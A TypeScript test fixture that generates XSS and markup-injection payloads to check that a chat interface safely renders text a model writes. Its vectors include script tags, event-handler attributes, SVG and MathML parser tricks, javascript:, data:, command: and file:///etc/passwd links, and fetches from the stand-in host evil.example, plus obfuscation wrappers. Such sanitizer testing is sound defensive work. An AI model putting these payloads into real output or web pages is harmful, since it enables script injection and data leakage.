/**
 * Attacks by text that a model may write: every vector in every place. Each tries to run `ran()` or to have something
 * fetched from `evil.example`; each is followed by a mark of its own, by which the test sees that nothing was swallowed.
 * Data and its making alone; `../ui/hostile.test.ts` has it drawn.
 */

/** The host that hostile text calls. */
export const EVIL = "evil.example";

const RUN = "window.ran=1";
const CALL = `https://${EVIL}`;

/** What is tried, by what it is. */
export const VECTORS: Readonly<Record<string, string>> = {
  script: `<script>${RUN}</script>`,
  "remote script": `<script src="${CALL}/a.js"></script>`,
  "module script": `<script type="module">import("${CALL}/m.js")</script>`,
  "image with a handler": `<img src=x onerror="${RUN}">`,
  "remote image": `<img src="${CALL}/i.png">`,
  "remote image set": `<img srcset="${CALL}/s.png 1x, ${CALL}/s2.png 2x">`,
  "picture source": `<picture><source srcset="${CALL}/p.webp"><img></picture>`,
  "markdown image": `![i](${CALL}/md.png)`,
  "markdown image by reference": `![i][evil]\n\n[evil]: ${CALL}/ref.png`,
  "svg with a handler": `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName="x"/></svg>`,
  "svg script": `<svg><script>${RUN}</script></svg>`,
  "svg foreign object": `<svg><foreignObject><body onload="${RUN}"></foreignObject></svg>`,
  "svg use": `<svg><use href="${CALL}/u.svg#a"/><image href="${CALL}/v.png"/></svg>`,
  "math with a link": `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
  "math that changes the parser": `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></table></math>`,
  "style import": `<style>@import "${CALL}/a.css"; body{background:url(${CALL}/b.png)}</style>`,
  "style attribute": `<div style="background:url(${CALL}/c.png);position:fixed;inset:0">over all</div>`,
  "remote stylesheet": `<link rel="stylesheet" href="${CALL}/d.css"><link rel="prefetch" href="${CALL}/e">`,
  frame: `<iframe src="${CALL}/f.html" onload="${RUN}"></iframe>`,
  "frame with a document": `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  "object and embed": `<object data="${CALL}/o.swf"></object><embed src="${CALL}/e.swf">`,
  "javascript link": `[click](javascript:${RUN}) <a href="javascript:${RUN}">click</a>`,
  "data link": `[click](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)`,
  "command link": `[click](command:workbench.action.terminal.new) <a href="command:chatls.stop">click</a>`,
  "link of VS Code": `[click](vscode://file/etc/passwd) [click](file:///etc/passwd)`,
  "form and button": `<form action="${CALL}/g"><button formaction="javascript:${RUN}" autofocus onfocus="${RUN}">go</button></form>`,
  "meta refresh and base": `<meta http-equiv="refresh" content="0;url=${CALL}/h"><base href="${CALL}/">`,
  media: `<video src="${CALL}/v.mp4" poster="${CALL}/v.png" onerror="${RUN}"></video><audio src="${CALL}/a.mp3" autoplay>`,
  "details that open": `<details open ontoggle="${RUN}"><summary>x</summary></details><marquee onstart="${RUN}">`,
  "broken markup": `<img """><script>${RUN}</script>"><!--><img src=x onerror="${RUN}">--><![CDATA[<script>${RUN}</script>]]>`,
};

/** Where it stands, or how it is written. */
export const PLACES: Readonly<Record<string, (vector: string) => string>> = {
  "a paragraph": (vector) => vector,
  "a heading": (vector) => `## Title ${oneLine(vector)}`,
  "a list": (vector) => `- one\n- ${oneLine(vector)}\n  - ${oneLine(vector)}`,
  "a quotation": (vector) => `> said\n> ${oneLine(vector)}`,
  "a table": (vector) => `| a | b |\n|---|---|\n| ${oneLine(vector).replaceAll("|", "\\|")} | x |`,
  "the text and title of a link": (vector) => {
    const line = oneLine(vector);
    return `[${line.replaceAll(/[[\]]/g, "\\$&")}](https://example.org "${line.replaceAll('"', "&quot;")}")`;
  },
  "a code block": (vector) =>
    `\`\`\`html${oneLine(vector).replaceAll("`", "")}\n${vector}\n\`\`\`\n\`${oneLine(vector)}\``,
  entities: (vector) =>
    vector.replaceAll(/[<>"':]/g, (char) => `&#${char.charCodeAt(0)};`) +
    vector.replaceAll(/[<>"':]/g, (char) => `&#x${char.charCodeAt(0).toString(16)};`),
  "odd letters": (vector) =>
    vector
      .replaceAll("javascript", "jAvA\tsCrIpT")
      .replaceAll("script", "ScR\u0000ipt")
      .replaceAll("on", "\u200bo\u00adN")
      .replaceAll("https:", "hTTps:"),
  "markup inside markup": (vector) => `<p title="${vector}"><b>**${oneLine(vector)}**</b></p><x-y>${vector}`,
};

/** One attack as it is sent, with the mark that must still be readable behind it. */
export interface Attack {
  readonly text: string;
  readonly mark: string;
}

/** All vectors in one place. */
export function attacks(place: string): readonly Attack[] {
  const put = PLACES[place] ?? ((vector: string) => vector);
  return Object.values(VECTORS).map((vector, number) => {
    const mark = `mark-${Object.keys(PLACES).indexOf(place)}-${number}-end`;
    return { text: `${put(vector)}\n\n${mark}`, mark };
  });
}

function oneLine(text: string): string {
  return text.replaceAll(/\s*\n\s*/g, " ");
}
